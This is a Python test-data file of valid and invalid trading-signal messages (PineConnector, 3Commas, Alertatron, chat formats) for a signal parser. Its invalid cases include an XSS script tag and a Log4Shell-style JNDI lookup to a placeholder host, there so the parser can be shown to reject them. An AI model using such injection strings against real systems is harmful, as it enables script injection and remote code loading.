"""Real-world signal formats, written from each format's public documentation and from the shapes chat
signal channels use, by kind. ``VALID`` holds what a message must read as (every field named must equal;
fields not named must be empty), ``INVALID`` what must be refused and a word of the reason.

A distance is written ``("20", "pips")``; a price as a string. Quantities and prices compare as Decimals."""

from typing import Any

Expected = dict[str, Any]

VALID: list[tuple[str, str, Expected]] = [
    # PineConnector: LicenseID,command,SYMBOL,key=value... (sl/tp in pips; slprice/tpprice are prices;
    # risk sizes by account risk, which is not a quantity)
    ("pineconnector", "60123456789,buy,EURUSD,risk=1", {"side": "buy", "symbol": "EURUSD"}),
    (
        "pineconnector",
        "60123456789,buy,EURUSD,sl=20,tp=40,risk=1",
        {"side": "buy", "symbol": "EURUSD", "stop_loss": ("20", "pips"), "take_profit": [("40", "pips")]},
    ),
    (
        "pineconnector",
        "60123456789,sell,USDJPY,risk=0.5,slprice=151.20,tpprice=149.80",
        {"side": "sell", "symbol": "USDJPY", "stop_loss": "151.20", "take_profit": ["149.80"]},
    ),
    (
        "pineconnector",
        "60123456789,buylimit,XAUUSD,price=2010.5,sl=50,tp=100,risk=1",
        {
            "side": "buy",
            "symbol": "XAUUSD",
            "entry": "2010.5",
            "order_type": "limit",
            "stop_loss": ("50", "pips"),
            "take_profit": [("100", "pips")],
        },
    ),
    ("pineconnector", "60123456789,closelong,EURUSD", {"side": "close", "symbol": "EURUSD"}),
    (
        "pineconnector",
        "60123456789,sellstop,GBPUSD,price=1.2650,slprice=1.2700,risk=2",
        {"side": "sell", "symbol": "GBPUSD", "entry": "1.2650", "order_type": "stop", "stop_loss": "1.2700"},
    ),
    # 3Commas bot messages (pair written quote_base)
    (
        "3commas",
        '{"message_type": "bot", "bot_id": 4812345, "email_token": "fe1b2c3d-aaaa-bbbb-cccc-1234567890ab", '
        '"delay_seconds": 0, "pair": "USDT_BTC"}',
        {"side": "buy", "symbol": "BTCUSDT"},
    ),
    (
        "3commas",
        '{"action": "close_at_market_price", "message_type": "bot", "bot_id": 4812345, '
        '"email_token": "fe1b2c3d-aaaa-bbbb-cccc-1234567890ab", "delay_seconds": 0, "pair": "USDT_ETH"}',
        {"side": "close", "symbol": "ETHUSDT"},
    ),
    (
        "3commas",
        '{"secret": "eyJhbGciOiJIUzI1NiJ9.abc", "max_lag": "300", "timestamp": "2026-12-07T10:00:00Z", '
        '"trigger_price": "64000.5", "tv_exchange": "BINANCE", "tv_instrument": "BTCUSDT", "action": "enter_long", '
        '"bot_uuid": "0b7f5c8e-1111-2222-3333-444455556666"}',
        {"side": "buy", "symbol": "BTCUSDT"},
    ),
    (
        "3commas",
        '{"secret": "eyJhbGciOiJIUzI1NiJ9.abc", "max_lag": "300", "timestamp": "2026-12-07T10:00:00Z", '
        '"trigger_price": "3500", "tv_exchange": "BINANCE", "tv_instrument": "ETHUSDT", "action": "exit_long", '
        '"bot_uuid": "0b7f5c8e-1111-2222-3333-444455556666"}',
        {"side": "close", "symbol": "ETHUSDT"},
    ),
    # Alertatron
    (
        "alertatron",
        "MyKeys(BTCUSD) { market(side=buy, amount=100); }",
        {"side": "buy", "symbol": "BTCUSD", "quantity": "100"},
    ),
    (
        "alertatron",
        "binanceKeys(ETHUSDT) {\n  market(side=sell, amount=0.5);\n}",
        {"side": "sell", "symbol": "ETHUSDT", "quantity": "0.5"},
    ),
    (
        "alertatron",
        "MyKeys(XBTUSD) { limit(side=buy, amount=1, offset=@64000); }",
        {"side": "buy", "symbol": "XBTUSD", "quantity": "1", "entry": "64000", "order_type": "limit"},
    ),
    # Compact key=value lines (Autoview style)
    (
        "keyvalue",
        "e=binance s=BTCUSDT b=buy q=0.01 t=market",
        {"side": "buy", "symbol": "BTCUSDT", "quantity": "0.01", "order_type": "market"},
    ),
    ("keyvalue", "e=binance s=ETHUSDT c=position", {"side": "close", "symbol": "ETHUSDT"}),
    (
        "keyvalue",
        "e=bybit s=SOLUSDT b=sell q=2 t=limit p=145.5",
        {"side": "sell", "symbol": "SOLUSDT", "quantity": "2", "order_type": "limit", "entry": "145.5"},
    ),
    # Pipe-separated id|strategy|side|symbol
    ("pipe", "8823|ema_cross|buy|EURUSD", {"side": "buy", "symbol": "EURUSD"}),
    ("pipe", "8824|breakout|sell|BTCUSDT", {"side": "sell", "symbol": "BTCUSDT"}),
    # Chat signals with labelled fields
    (
        "chat-labelled",
        "Trade Direction: BUY\nForex Pair: USDCAD\nEntry Price: 1.3650\nStop Loss: 1.3600\nTake Profit: 1.3750",
        {"side": "buy", "symbol": "USDCAD", "entry": "1.3650", "stop_loss": "1.3600", "take_profit": ["1.3750"]},
    ),
    (
        "chat-labelled",
        "Currency Pair: GBPUSD\nSignal: SELL\nENTRY PRICE : 1.2700\nSL : 1.2750\nTP : 1.2600",
        {"side": "sell", "symbol": "GBPUSD", "entry": "1.2700", "stop_loss": "1.2750", "take_profit": ["1.2600"]},
    ),
    (
        "chat-labelled",
        "PAIR : EURJPY\nDIRECTION : BUY\nENTRY : 162.40\nSL : 161.90\nTP1 : 162.90\nTP2 : 163.40",
        {
            "side": "buy",
            "symbol": "EURJPY",
            "entry": "162.40",
            "stop_loss": "161.90",
            "take_profit": ["162.90", "163.40"],
        },
    ),
    # Emoji and flags between the words
    (
        "chat-emoji",
        "🇺🇸🇨🇦 USDCAD 🔴 SELL 1.3700\n❌ SL 1.3750\n✅ TP 1.3650",
        {"side": "sell", "symbol": "USDCAD", "entry": "1.3700", "stop_loss": "1.3750", "take_profit": ["1.3650"]},
    ),
    (
        "chat-emoji",
        "🚀🚀 BUY #BTCUSDT 🚀🚀\n📍Entry: 64000\n🎯TP1: 66000\n🎯TP2: 68000\n🛑SL: 62000",
        {"side": "buy", "symbol": "BTCUSDT", "entry": "64000", "stop_loss": "62000", "take_profit": ["66000", "68000"]},
    ),
    # Mixed-case or split symbols
    (
        "chat-symbol",
        "UsdChf buy @ 0.9050 sl 0.9000 tp 0.9150",
        {"side": "buy", "symbol": "USDCHF", "entry": "0.9050", "stop_loss": "0.9000", "take_profit": ["0.9150"]},
    ),
    (
        "chat-symbol",
        "XAU USD BUY 2010 SL 2000 TP 2030",
        {"side": "buy", "symbol": "XAUUSD", "entry": "2010", "stop_loss": "2000", "take_profit": ["2030"]},
    ),
    (
        "chat-symbol",
        "USD/CAD SELL 1.3700 SL 1.3750 TP 1.3600",
        {"side": "sell", "symbol": "USDCAD", "entry": "1.3700", "stop_loss": "1.3750", "take_profit": ["1.3600"]},
    ),
    (
        "chat-symbol",
        "$OPEN /USDT LONG 0.52 SL 0.49 TP 0.58",
        {"side": "buy", "symbol": "OPENUSDT", "entry": "0.52", "stop_loss": "0.49", "take_profit": ["0.58"]},
    ),
    # Currency and metal names
    (
        "chat-names",
        "Gold sell now 2035 SL 2045 TP 2020",
        {
            "side": "sell",
            "symbol": "XAUUSD",
            "entry": "2035",
            "stop_loss": "2045",
            "take_profit": ["2020"],
            "order_type": "market",
        },
    ),
    (
        "chat-names",
        "Australian Dollar BUY 0.6650 SL 0.6600 TP 0.6750",
        {"side": "buy", "symbol": "AUDUSD", "entry": "0.6650", "stop_loss": "0.6600", "take_profit": ["0.6750"]},
    ),
    (
        "chat-names",
        "Silver BUY 24.50 SL 24.00 TP 25.50",
        {"side": "buy", "symbol": "XAGUSD", "entry": "24.50", "stop_loss": "24.00", "take_profit": ["25.50"]},
    ),
    # Long/Short from
    (
        "chat-from",
        "Long BTCUSDT from 64000 SL 62000 TP 68000",
        {"side": "buy", "symbol": "BTCUSDT", "entry": "64000", "stop_loss": "62000", "take_profit": ["68000"]},
    ),
    (
        "chat-from",
        "Short ETHUSDT from 3500, SL 3600, TP 3300",
        {"side": "sell", "symbol": "ETHUSDT", "entry": "3500", "stop_loss": "3600", "take_profit": ["3300"]},
    ),
    # Numbered targets with the value on the next line
    (
        "chat-targets",
        "BUY EURUSD 1.0850\nSL 1.0800\nT.P 1\n1.0900\nT.P 2\n1.0950",
        {
            "side": "buy",
            "symbol": "EURUSD",
            "entry": "1.0850",
            "stop_loss": "1.0800",
            "take_profit": ["1.0900", "1.0950"],
        },
    ),
    (
        "chat-targets",
        "SELL GBPJPY 191.50\nStop loss\n192.20\n1st Tp\n190.80\n2nd Tp\n190.10",
        {
            "side": "sell",
            "symbol": "GBPJPY",
            "entry": "191.50",
            "stop_loss": "192.20",
            "take_profit": ["190.80", "190.10"],
        },
    ),
    (
        "chat-targets",
        "BUY XAUUSD 2010\nTP1\n2015\nTP2\n2020\nSL\n2000",
        {"side": "buy", "symbol": "XAUUSD", "entry": "2010", "stop_loss": "2000", "take_profit": ["2015", "2020"]},
    ),
    # Entry ranges with hyphens, en dashes or parentheses
    (
        "chat-range",
        "BUY XAUUSD 2010-2005 SL 2000 TP 2030",
        {"side": "buy", "symbol": "XAUUSD", "entry": "2010", "stop_loss": "2000", "take_profit": ["2030"]},
    ),
    (
        "chat-range",
        "SELL EURUSD 1.0850–1.0870 SL 1.0900 TP 1.0800",
        {"side": "sell", "symbol": "EURUSD", "entry": "1.0850", "stop_loss": "1.0900", "take_profit": ["1.0800"]},
    ),
    (
        "chat-range",
        "BUY GBPUSD (1.2650 - 1.2640) SL 1.2600 TP 1.2750",
        {"side": "buy", "symbol": "GBPUSD", "entry": "1.2650", "stop_loss": "1.2600", "take_profit": ["1.2750"]},
    ),
    # Close all
    ("chat-close", "XAUUSD close all", {"side": "close", "symbol": "XAUUSD"}),
    ("chat-close", "Close all EURUSD trades now", {"side": "close", "symbol": "EURUSD"}),
    # Other languages
    (
        "chat-russian",
        "ЛОНГ BTCUSDT\nВход: 64000\nТП: 66000\nСЛ: 63000",
        {"side": "buy", "symbol": "BTCUSDT", "entry": "64000", "stop_loss": "63000", "take_profit": ["66000"]},
    ),
    (
        "chat-russian",
        "ШОРТ ETHUSDT Вход 3500 ТП 3400 СЛ 3550",
        {"side": "sell", "symbol": "ETHUSDT", "entry": "3500", "stop_loss": "3550", "take_profit": ["3400"]},
    ),
    # Formats that already read
    (
        "tradingview",
        '{"action": "buy", "ticker": "AAPL", "contracts": "10", "price": "189.5"}',
        {"side": "buy", "symbol": "AAPL", "quantity": "10", "entry": "189.5"},
    ),
    (
        "tradingview",
        "BUY EURUSD @1.0850 SL 1.0800 TP 1.0900",
        {"side": "buy", "symbol": "EURUSD", "entry": "1.0850", "stop_loss": "1.0800", "take_profit": ["1.0900"]},
    ),
    (
        "chat",
        "XAUUSD BUY NOW @ 2015.50 SL 2010 TP1 2020 TP2 2025",
        {
            "side": "buy",
            "symbol": "XAUUSD",
            "entry": "2015.50",
            "order_type": "market",
            "stop_loss": "2010",
            "take_profit": ["2020", "2025"],
        },
    ),
]

INVALID: list[tuple[str, str, str]] = [
    ("malformed-json", '{"action": "buy", "ticker": "EURUSD",}', "JSON"),
    ("malformed-json", '{"action": "sell", "ticker": "BTCUSDT", "price": 64000', "JSON"),
    ("no-symbol", "BUY now @ 1.0850 SL 1.0800", "symbol"),
    ("no-symbol", "SELL @ 2035 TP 2020", "symbol"),
    ("unknown-stop", "BUY EURUSD 1.0850 SL ??? TP 1.0900", "stop"),
    ("unknown-stop", "SELL XAUUSD 2035 SL: TBA TP 2020", "stop"),
    ("several", "BUY EURUSD 1.0850 SL 1.0800\nSELL GBPUSD 1.2700 SL 1.2750", "one signal"),
    ("several", "BUY XAUUSD 2010 SL 2000 TP 2030 / SELL USDJPY 150.20 SL 150.80 TP 149.50", "one signal"),
    ("grid-no-stop", "BUY EURUSD 1.0850 1.0830 1.0810 1.0790", "stop"),
    ("grid-no-stop", "BUY XAUUSD 2010 2005 2000 1995 1990", "stop"),
    ("far-level", "BUY EURUSD 1.0850 SL 1.0800 TP 2.10", "from the entry"),
    ("far-level", "SELL BTCUSDT 64000 SL 65000 TP 1000", "from the entry"),
    ("both-sides", "BUY SELL EURUSD 1.0850", "side"),
    ("both-sides", "Long and short BTCUSDT 64000", "side"),
    ("conflicting", "BUY EURUSD 1.0850 SL 1.0800 SL 1.0750 TP 1.0900", "stop-loss"),
    ("conflicting", "SELL GBPUSD @ 1.2700 @ 1.2800 SL 1.2850", "entr"),
    ("comma-decimal", "BUY EURUSD 1,0850 SL 1,0800 TP 1,0900", "comma"),
    ("comma-decimal", "SELL EURUSD @ 1,0850", "comma"),
    ("negative", "BUY EURUSD @ -1.0850 SL 1.0800", "positive"),
    ("negative", '{"action": "buy", "ticker": "EURUSD", "price": -1.08}', "positive"),
    ("too-large", "BUY EURUSD qty 99999999999999999999999", "too large"),
    ("too-large", "BUY BTCUSDT @ 1e40", "too large"),
    ("placeholder", '{"action": "{{strategy.order.action}}", "ticker": "{{ticker}}"}', "placeholder"),
    ("placeholder", "BUY {{ticker}} @ {{close}}", "placeholder"),
    ("bad-symbol", "BUY <script>alert(1)</script> 1.0850", "symbol"),
    ("bad-symbol", "SELL ${jndi:ldap://x.example/a} @ 100", "symbol"),
    ("bad-symbol", '{"action": "buy", "ticker": "EUR<b>USD</b>"}', "symbol"),
    ("not-a-signal", "Good morning traders! Market opens in 5 minutes", "side"),
    ("not-a-signal", "TP1 hit on EURUSD +30 pips 🎉", "side"),
    ("not-a-signal", "60123456789,cancellong,EURUSD", "side"),
]
